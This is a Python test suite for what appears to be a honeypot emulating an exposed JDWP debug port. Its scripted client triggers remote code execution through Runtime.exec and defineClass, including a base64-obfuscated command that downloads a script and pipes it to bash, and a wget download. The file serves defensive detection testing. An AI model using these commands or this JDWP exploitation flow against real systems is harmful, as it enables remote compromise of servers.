"""A debugger that nobody invited: a method called from a breakpoint, a class defined, and what is only looked at."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.jdwp import Jdwp, calls, machine, room
from eudaemon.protocols.jdwp.machine import Machine
from eudaemon.protocols.jdwp.room import HANDSHAKE, HEAD
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

MODERN, OLD = 8, 4  # what a method's number takes


def host_with(method_bytes: int) -> Host:
    hosts = (Host.from_seed(Seed(b"jvm %d" % number)) for number in range(99))
    return next(host for host in hosts if Machine(host, Purse(1 << 20)).method_bytes == method_bytes)


def number(value: int, size: int = 4) -> bytes:
    return value.to_bytes(size, "big")


def packet(group: int, command: int, data: bytes = b"", identity: int = 1) -> bytes:
    return HEAD.pack(HEAD.size + len(data), identity, 0, group, command) + data


class Debugger:
    """What public tools do, in our words: they ask for sizes, look names up, and call."""

    def __init__(self, host: Host | None = None, split: int = 0, bytes_max: int = 32 << 20) -> None:
        self.table = Table(Jdwp(visit(host=host or host_with(MODERN), port=5005, purse=Purse(bytes_max)))).open()
        self.split = split
        assert self.table.say(HANDSHAKE, split) == HANDSHAKE
        self.method_bytes = struct.unpack(">5I", self.ask(1, 7))[1]
        self.thread = self.ask(1, 4)[4:12]
        self.events = b""

    def ask(self, group: int, command: int, data: bytes = b"", error: int = 0) -> bytes:
        heard = self.table.say(packet(group, command, data), self.split)
        if not heard:
            return b""
        length, _, flags, code = struct.unpack(">IIBH", heard[:11])
        assert (flags, code) == (0x80, error)
        self.events = heard[length:]
        return heard[11:length]

    def text(self, text: bytes) -> bytes:
        return self.ask(1, 11, number(len(text)) + text)

    def class_of(self, signature: bytes) -> bytes:
        found = self.ask(1, 2, number(len(signature)) + signature)
        assert found[:4] == number(1), signature
        return found[5:13]

    def method(self, of: bytes, name: bytes, signature: bytes = b"") -> bytes:
        there = self.ask(2, 5, of)
        count, at = int.from_bytes(there[:4], "big"), 4
        for _ in range(count):
            identity, at = there[at : at + self.method_bytes], at + self.method_bytes
            texts = []
            for _ in range(2):
                size = int.from_bytes(there[at : at + 4], "big")
                texts.append(there[at + 4 : at + 4 + size])
                at += 4 + size
            at += 4
            if texts[0] == name and signature in texts[1]:
                return identity
        raise AssertionError(name)

    def call(self, instance: bytes, of: bytes, method: bytes, *arguments: bytes) -> bytes:
        given = number(len(arguments)) + b"".join(arguments) + number(0)
        return self.ask(9, 6, instance + self.thread + of + method + given)

    def value(self, given: bytes) -> bytes:
        assert given[:1] == b"s", given
        return self.ask(10, 1, given[1:9])[4:]


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("method_bytes", [OLD, MODERN])
def test_a_breakpoint_and_then_a_command(method_bytes: int, split: int) -> None:
    debugger = Debugger(host_with(method_bytes), split)
    assert debugger.method_bytes == method_bytes
    runtime, socket = debugger.class_of(b"Ljava/lang/Runtime;"), debugger.class_of(b"Ljava/net/ServerSocket;")
    place = b"\1" + socket + debugger.method(socket, b"accept") + bytes(8)
    request = debugger.ask(15, 1, b"\2\2" + number(1) + b"\7" + place)
    assert debugger.ask(1, 9) == b""
    event = debugger.events
    assert (event[8:11], event[11:17], event[17:21]) == (b"\0\x40\x64", b"\2\0\0\0\1\2", request)
    debugger.thread = event[21:29]
    assert event[29:] == place
    debugger.ask(15, 2, b"\2" + request)
    one = debugger.ask(
        3, 3, runtime + debugger.thread + debugger.method(runtime, b"getRuntime") + number(0) + number(0)
    )
    assert one[:1] + one[9:] == b"LL" + bytes(8)
    command = b"bash -c {echo,d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}|{base64,-d}|{bash,-i}"
    process = debugger.call(one[1:9], runtime, debugger.method(runtime, b"exec"), b"L" + debugger.text(command))
    assert process[:1] == b"L", "who runs it need not wait"
    assert [wish.download.url for wish in debugger.table.wishes] == ["http://198.51.100.7/x"]
    assert [fact.name for fact in debugger.table.facts if isinstance(fact, ExploitRecognised)] == ["jdwp-command"]
    debugger.table.tell(HalfClosed(debugger.table.at_s))
    assert not debugger.table.over
    debugger.table.answer("ok", b"#!/bin/sh\n")
    assert debugger.table.over


def test_what_a_command_prints_is_read_line_by_line() -> None:
    debugger = Debugger()
    runtime, strings = debugger.class_of(b"Ljava/lang/Runtime;"), debugger.class_of(b"[Ljava/lang/String;")
    words = debugger.ask(4, 1, strings + number(3))[1:]
    said = (b"/bin/sh", b"-c", b"echo one; echo two")
    debugger.ask(13, 3, words + number(0) + number(3) + b"".join(debugger.text(word) for word in said))
    process = debugger.call(runtime, runtime, debugger.method(runtime, b"exec", b"([L"), b"[" + words)
    reader = debugger.class_of(b"Ljava/io/BufferedReader;")
    made = debugger.ask(3, 4, reader + debugger.thread + debugger.method(reader, b"<init>") + number(1) + process[:9])
    read = debugger.method(reader, b"readLine")
    lines = [debugger.call(made[1:9], reader, read) for _ in range(3)]
    assert [debugger.value(line) for line in lines[:2]] == [b"one", b"two"]
    assert lines[2] == b"L" + bytes(8) + b"L" + bytes(8)


@pytest.mark.parametrize("split", [0, 1])
def test_a_class_is_defined_kept_and_run(split: int) -> None:
    debugger = Debugger(split=split)
    code = b"\xca\xfe\xba\xbe" + bytes(range(256)) * 3
    array = debugger.ask(4, 1, debugger.class_of(b"[B") + number(len(code)))[1:]
    debugger.ask(13, 3, array + number(0) + number(len(code)) + code)
    debugger.ask(15, 1, b"\1\2" + number(1) + b"\x0a" + debugger.thread + number(0) + number(0))
    debugger.ask(11, 3, debugger.thread)
    assert debugger.events[16:17] == b"\1", "a step was made"
    loader = debugger.class_of(b"Ljava/lang/ClassLoader;")
    size = b"I" + number(0) + b"I" + number(len(code))
    defined = debugger.call(loader, loader, debugger.method(loader, b"defineClass"), b"[" + array, size[:5], size[5:])
    assert defined[:1] == b"c"
    own = defined[1:9]
    assert debugger.ask(17, 1, own) == b"\1" + own
    made = debugger.ask(3, 4, own + debugger.thread + debugger.method(own, b"<init>") + number(0) + number(0))[1:9]
    run = debugger.method(own, b"run")
    said = debugger.call(made, own, run, b"L" + debugger.text(b"wget -qO- http://198.51.100.7/x"))
    assert said == b"", "its output is waited for"
    debugger.table.answer("ok", b"hello\n")
    assert debugger.value(debugger.table.sent[-18:]) == b"hello\n"
    debugger.table.end()
    assert [(keep.data, keep.partial) for keep in debugger.table.kept if keep.origin == "upload"] == [(code, False)]


def test_what_is_looked_at() -> None:
    debugger = Debugger()
    assert b"Java Debug Wire Protocol" in debugger.ask(1, 1)
    assert b"Ljava/lang/Runtime;" in debugger.ask(1, 3)
    assert b"Ljava/lang/Runtime;\0\0\0\0" in debugger.ask(1, 20)
    assert debugger.ask(11, 1, debugger.thread)[4:] == b"main"
    assert len(debugger.ask(11, 4, debugger.thread)) == 8
    system = debugger.class_of(b"Ljava/lang/System;")
    assert b"getProperty" in debugger.ask(2, 15, system)
    read = debugger.method(system, b"getProperty")
    got = debugger.ask(3, 3, system + debugger.thread + read + number(1) + b"L" + debugger.text(b"os.name") + number(0))
    assert debugger.value(got) == b"Linux"
    assert debugger.ask(1, 2, number(3) + b"Lx;") == number(0)
    for group, command, data, error in (
        (2, 1, bytes(8), calls.INVALID_CLASS), (9, 1, bytes(8), calls.INVALID_OBJECT),
        (11, 1, bytes(8), calls.INVALID_THREAD), (13, 3, bytes(16), calls.INVALID_ARRAY),
        (77, 1, b"", calls.NOT_IMPLEMENTED), (4, 1, system + number(1), calls.INVALID_ARRAY),
        (9, 6, system + bytes(16) + bytes(12), calls.INVALID_METHOD),
    ):  # fmt: skip
        assert debugger.ask(group, command, data, error) == b""
    assert CommandEntered("VirtualMachine.AllClasses") in debugger.table.facts
    assert not any(isinstance(fact, ExploitRecognised) for fact in debugger.table.facts)
    debugger.ask(1, 6)
    assert debugger.table.over


def test_limits() -> None:
    debugger = Debugger()
    debugger.table.say(number(room.PACKET_BYTES_MAX + 1) + bytes(7))
    assert "bytes" in debugger.table.fault
    debugger = Debugger()
    debugger.table.say(HEAD.pack(HEAD.size + 4, 1, 0, 2, 1) + bytes(4))
    assert "early" in debugger.table.fault
    debugger = Debugger()
    for _ in range(calls.EVENTS_MAX):
        debugger.ask(15, 1, b"\2\2" + number(0))
    debugger.table.say(packet(15, 1, b"\2\2" + number(0)))
    assert "events" in debugger.table.fault
    debugger = Debugger()
    debugger.ask(15, 1, b"\2\2" + number(calls.MODIFIERS_MAX) + (b"\1" + bytes(4)) * calls.MODIFIERS_MAX)
    debugger.table.say(packet(15, 1, b"\2\2" + number(calls.MODIFIERS_MAX + 1)))
    assert "modifiers" in debugger.table.fault
    debugger = Debugger()
    assert debugger.text(bytes(machine.STRING_BYTES_MAX))
    debugger.table.say(packet(1, 11, number(machine.STRING_BYTES_MAX + 1) + bytes(machine.STRING_BYTES_MAX + 1)))
    assert "string" in debugger.table.fault
    debugger = Debugger()
    array = debugger.class_of(b"[B")
    assert debugger.ask(4, 1, array + number(machine.ARRAY_BYTES_MAX))
    debugger.table.say(packet(4, 1, array + number(machine.ARRAY_BYTES_MAX + 1)))
    assert "array" in debugger.table.fault
    debugger = Debugger(bytes_max=100_000)
    debugger.table.say(packet(4, 1, debugger.class_of(b"[B") + number(100_000)))
    assert "holds" in debugger.table.fault
    debugger = Debugger()
    while not debugger.table.fault:
        debugger.table.say(packet(1, 11, number(1) + b"a"))
    assert "objects" in debugger.table.fault
    debugger = Debugger()
    runtime = debugger.class_of(b"Ljava/lang/Runtime;")
    run, command = debugger.method(runtime, b"exec"), debugger.text(b"true")
    for _ in range(room.COMMANDS_MAX):
        debugger.call(runtime, runtime, run, b"L" + command)
    given = runtime + debugger.thread + runtime + run + number(1) + b"L" + command
    debugger.table.say(packet(9, 6, given))
    assert "commands" in debugger.table.fault
    debugger = Debugger()
    many = number(calls.ARGUMENTS_MAX + 1) + bytes(9 * calls.ARGUMENTS_MAX + 9)
    debugger.table.say(packet(9, 6, runtime + debugger.thread + runtime + run + many))
    assert "arguments" in debugger.table.fault
    debugger = Debugger()
    debugger.table.say(packet(1, 7) * (room.PACKETS_MAX + 1))
    assert "packets" in debugger.table.fault


def test_whose_conversation_it_is() -> None:
    claims = [Jdwp.claim(HANDSHAKE[:size]) for size in range(1, 15)]
    assert claims == sorted(claims)
    assert claims[-1] == Claim.YES
    assert Jdwp.claim(b"GET / HTTP/1.1") == Claim.NO
    table = Table(Jdwp(visit())).open()
    table.say(b"JDWP-Handshakf")
    assert table.fault
